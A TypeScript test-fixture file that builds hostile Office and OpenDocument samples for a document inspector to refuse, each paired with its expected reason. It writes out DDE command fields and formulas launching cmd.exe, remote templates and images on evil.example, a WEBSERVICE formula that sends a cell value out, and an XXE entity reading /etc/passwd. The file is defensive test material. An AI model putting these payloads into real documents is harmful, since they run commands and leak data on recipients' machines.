// Office and OpenDocument files that run, fetch or hide something. Each is refused, with the sentence of its reason.
import type { RefusalReason } from '../../../../outbound/inspect/inspection.ts'
import { text, zip, type Hostile, type Part } from './build.ts'

const officeTypes = {
  docx: { folder: 'word', main: 'word/document.xml', type: 'wordprocessingml.document' },
  xlsx: { folder: 'xl', main: 'xl/workbook.xml', type: 'spreadsheetml.sheet' },
  pptx: { folder: 'ppt', main: 'ppt/presentation.xml', type: 'presentationml.presentation' },
} as const
type Office = keyof typeof officeTypes

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const STRICT = 'http://purl.oclc.org/ooxml/officeDocument/relationships'
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

const part = (name: string, body: string | Buffer): Part => ({
  name,
  body: typeof body === 'string' ? text(body) : body,
})
const contentTypes = (type: Office, more = '') =>
  part(
    '[Content_Types].xml',
    `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/${officeTypes[type].main}" ContentType="application/vnd.openxmlformats-officedocument.${officeTypes[type].type}.main+xml"/>${more}</Types>`,
  )

/** A sound little file of the kind, with what is added to it. */
export const office = (type: Office, more: Part[] = [], main = '<document/>', types = '') =>
  zip([contentTypes(type, types), part(officeTypes[type].main, main), ...more])

const relations = (type: Office, ...rels: string[]) =>
  part(
    `${officeTypes[type].folder}/_rels/${officeTypes[type].main.split('/')[1]}.rels`,
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels.join('')}</Relationships>`,
  )
export const relation = (type: string, target: string, mode = 'External', base = RELATIONS) =>
  `<Relationship Id="rId9" Type="${base}/${type}" Target="${target}" TargetMode="${mode}"/>`
const related = (type: Office, ...rels: string[]) => office(type, [relations(type, ...rels)])

const wordRuns = (...runs: string[]) => `<w:document ${W}><w:body><w:p>${runs.join('')}</w:p></w:body></w:document>`
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const instruction = (words: string) => `<w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r>`
export const field = (...pieces: string[]) =>
  wordRuns(mark('begin'), ...pieces.map(instruction), mark('separate'), '<w:r><w:t>!</w:t></w:r>', mark('end'))
export const cell = (formula: string) =>
  part(
    'xl/worksheets/sheet1.xml',
    `<worksheet><sheetData><row><c r="A1"><f>${formula}</f><v>1</v></c></row></sheetData></worksheet>`,
  )
const macros = part('xl/vbaProject.bin', 'x')

type Case = [name: string, bytes: Buffer, why: RefusalReason]
const officeCases: Case[] = [
  ['macro.docx', office('docx', [part('word/vbaProject.bin', 'x')]), 'active_content'],
  [
    'macro-type.docx',
    office(
      'docx',
      [],
      '<x/>',
      '<Default Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    ),
    'active_content',
  ],
  [
    'macro-renamed.xlsx',
    related(
      'xlsx',
      `<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/a.png"/>`,
    ),
    'active_content',
  ],
  [
    'macro-sheet.xlsx',
    related(
      'xlsx',
      `<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/a.xml"/>`,
    ),
    'active_content',
  ],
  ['embedded-macro.docx', office('docx', [part('word/embeddings/a.xlsx', office('xlsx', [macros]))]), 'active_content'],
  [
    'embedded-embedded.docx',
    office('docx', [
      part(
        'word/embeddings/a.xlsx',
        office('xlsx', [part('xl/embeddings/b.docx', office('docx', [part('word/vbaProject.bin', 'x')]))]),
      ),
    ]),
    'active_content',
  ],
  ['embedded-xlsm.docx', office('docx', [part('word/embeddings/a.xlsm', office('xlsx'))]), 'embedded'],
  ['embedded-no-workbook.docx', office('docx', [part('word/embeddings/a.xlsx', 'MZ')]), 'wrong_type'],
  ['ole-object.docx', office('docx', [part('word/embeddings/oleObject1.bin', 'x')]), 'embedded'],
  ['ole-renamed.docx', related('docx', relation('oleObject', 'media/a.png', 'Internal')), 'embedded'],
  ['program.docx', office('docx', [part('word/embeddings/run.exe', 'MZ')]), 'embedded'],
  ['page-chunk.docx', related('docx', relation('aFChunk', 'a.xml', 'Internal')), 'embedded'],
  ['active-x.docx', office('docx', [part('word/activeX/activeX1.xml', '<ax/>')]), 'active_content'],
  ['control.docx', related('docx', relation('control', 'a.xml', 'Internal')), 'active_content'],
  [
    'template.docx',
    office('docx', [
      part(
        'word/_rels/settings.xml.rels',
        `<Relationships>${relation('attachedTemplate', 'https://evil.example/t.dotm')}</Relationships>`,
      ),
    ]),
    'reaches_out',
  ],
  [
    'template-strict.docx',
    related('docx', relation('attachedTemplate', 'https://evil.example/t.dotm', 'External', STRICT)),
    'reaches_out',
  ],
  ['picture-remote.docx', related('docx', relation('image', 'https://evil.example/pixel.png')), 'reaches_out'],
  ['picture-share.docx', related('docx', relation('image', '\\\\evil.example\\share\\a.png')), 'reaches_out'],
  ['frame.docx', related('docx', relation('frame', 'https://evil.example/')), 'reaches_out'],
  ['link-file.docx', related('docx', relation('hyperlink', 'file:///c:/windows/calc.exe')), 'reaches_out'],
  ['link-script.pptx', related('pptx', relation('hyperlink', 'javascript:alert(1)')), 'reaches_out'],
  ['link-share.docx', related('docx', relation('hyperlink', '//evil.example/share')), 'reaches_out'],
  ['internal-remote.docx', related('docx', relation('image', 'https://evil.example/a.png', 'Internal')), 'reaches_out'],
  [
    'vml-remote.docx',
    office(
      'docx',
      [],
      '<d xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="https://evil.example/a.png"/></d>',
    ),
    'reaches_out',
  ],
  ['dde.docx', office('docx', [], field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')), 'active_content'],
  ['dde-in-pieces.docx', office('docx', [], field(' DD', 'EAU', 'TO ', 'cmd "/k calc"')), 'active_content'],
  ['dde-simple.docx', office('docx', [], wordRuns('<w:fldSimple w:instr=" DDE cmd calc "/>')), 'active_content'],
  ['dde-unclosed.docx', office('docx', [], wordRuns(mark('begin'), instruction('DDEAUTO cmd calc'))), 'active_content'],
  ['dde-in-header.docx', office('docx', [part('word/header1.xml', field('DDEAUTO cmd calc'))]), 'active_content'],
  [
    'dde-nested.docx',
    office(
      'docx',
      [],
      wordRuns(
        mark('begin'),
        instruction(' IF 1=1 '),
        mark('begin'),
        instruction('DDEAUTO cmd calc'),
        mark('end'),
        mark('end'),
      ),
    ),
    'active_content',
  ],
  ['include.docx', office('docx', [], field(' INCLUDEPICTURE "https://evil.example/a.png" \\d ')), 'active_content'],
  ['dde.xlsx', office('xlsx', [cell("cmd|' /C calc'!A0")]), 'active_content'],
  [
    'dde-name.xlsx',
    office(
      'xlsx',
      [],
      '<workbook><definedNames><definedName name="a">cmd|\'/c calc\'!A0</definedName></definedNames></workbook>',
    ),
    'active_content',
  ],
  [
    'dde-link.xlsx',
    office('xlsx', [
      part(
        'xl/externalLinks/externalLink1.xml',
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      ),
    ]),
    'active_content',
  ],
  [
    'external-table.xlsx',
    related('xlsx', relation('externalLink', 'externalLinks/externalLink1.xml', 'Internal')),
    'reaches_out',
  ],
  ['connections.xlsx', related('xlsx', relation('connections', 'connections.xml', 'Internal')), 'reaches_out'],
  [
    'web-service.xlsx',
    office('xlsx', [cell('_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A2)')]),
    'active_content',
  ],
  [
    'program-on-click.pptx',
    office('pptx', [part('ppt/slides/slide1.xml', '<p><hlinkClick action="ppaction://program"/></p>')]),
    'active_content',
  ],
  [
    'doctype.docx',
    office('docx', [], '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    'active_content',
  ],
  ['not-xml.docx', office('docx', [], '<w:document>'), 'broken'],
  ['utf-16.docx', office('docx', [{ name: 'word/a.xml', body: Buffer.from('\ufeff<x/>', 'utf16le') }]), 'broken'],
  ['twice.docx', office('docx', [part('word/a.xml', '<x/>'), part('word/A.xml', '<x/>')]), 'broken'],
  [
    'locked.docx',
    office('docx', [{ ...part('word/secret.xml', 'x'.repeat(20)), encrypted: true, claimedSize: 8 }]),
    'locked',
  ],
]

const odf = 'urn:oasis:names:tc:opendocument:xmlns'
const openTypes = { odt: 'text', ods: 'spreadsheet', odp: 'presentation' } as const
export const open = (type: keyof typeof openTypes, content: string, more: Part[] = []) =>
  zip([
    part('mimetype', `application/vnd.oasis.opendocument.${openTypes[type]}`),
    part(
      'content.xml',
      `<office:document-content xmlns:office="${odf}:office:1.0" xmlns:text="${odf}:text:1.0" xmlns:table="${odf}:table:1.0" xmlns:draw="${odf}:drawing:1.0" xmlns:script="${odf}:script:1.0" xmlns:presentation="${odf}:presentation:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">${content}</office:document-content>`,
    ),
    ...more,
  ])
const href = (target: string) => `xlink:href="${target}"`

const openCases: Case[] = [
  ['macro.odt', open('odt', '', [part('Basic/Standard/Module1.xml', '<x/>')]), 'active_content'],
  ['script.odt', open('odt', '', [part('Scripts/python/a.py', 'import os')]), 'active_content'],
  [
    'script-inline.odt',
    open('odt', '<office:scripts><office:script script:language="JavaScript">x</office:script></office:scripts>'),
    'active_content',
  ],
  [
    'on-open.odt',
    open(
      'odt',
      `<script:event-listener script:event-name="dom:load" ${href('vnd.sun.star.script:a?language=Basic')}/>`,
    ),
    'active_content',
  ],
  ['macro-field.odt', open('odt', '<text:execute-macro/>'), 'active_content'],
  ['dde.odt', open('odt', '<text:dde-connection-decl office:dde-application="cmd"/>'), 'active_content'],
  [
    'dde.ods',
    open('ods', '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)"/>'),
    'active_content',
  ],
  ['dde-bar.ods', open('ods', '<table:table-cell table:formula="of:=cmd|\'/c calc\'!A0"/>'), 'active_content'],
  [
    'web-service.ods',
    open('ods', '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example&quot;)"/>'),
    'active_content',
  ],
  [
    'other-table.ods',
    open('ods', '<table:table-cell table:formula="of:=[\'file:///c:/a.ods\'#$Sheet1.A1]"/>'),
    'active_content',
  ],
  [
    'program-on-click.odp',
    open('odp', `<presentation:event-listener presentation:action="execute" ${href('calc.exe')}/>`),
    'active_content',
  ],
  ['picture-remote.odt', open('odt', `<draw:image ${href('https://evil.example/a.png')}/>`), 'reaches_out'],
  ['picture-outside.odt', open('odt', `<draw:image ${href('../../a.png')}/>`), 'reaches_out'],
  ['section-remote.odt', open('odt', `<text:section-source ${href('https://evil.example/a.odt')}/>`), 'reaches_out'],
  ['table-remote.ods', open('ods', `<table:table-source ${href('https://evil.example/a.ods')}/>`), 'reaches_out'],
  ['link-script.odt', open('odt', `<text:a ${href('vnd.sun.star.script:a')}>x</text:a>`), 'reaches_out'],
  ['ole.odt', open('odt', `<draw:object-ole ${href('./Object 1')}/>`, [part('Object 1', 'x')]), 'embedded'],
  ['plugin.odp', open('odp', `<draw:plugin ${href('Media/a.swf')}/>`), 'embedded'],
  ['locked.odt', open('odt', '', [part('META-INF/manifest.xml', '<m><encryption-data/></m>')]), 'locked'],
]

export interface RefusedDocument extends Hostile {
  why: RefusalReason
}

export const actingOffice = (): RefusedDocument[] =>
  [...officeCases, ...openCases].map(([name, bytes, why]) => ({
    name: `acting-${name}`,
    group: 'document',
    bytes,
    expected: 'refused',
    why,
  }))
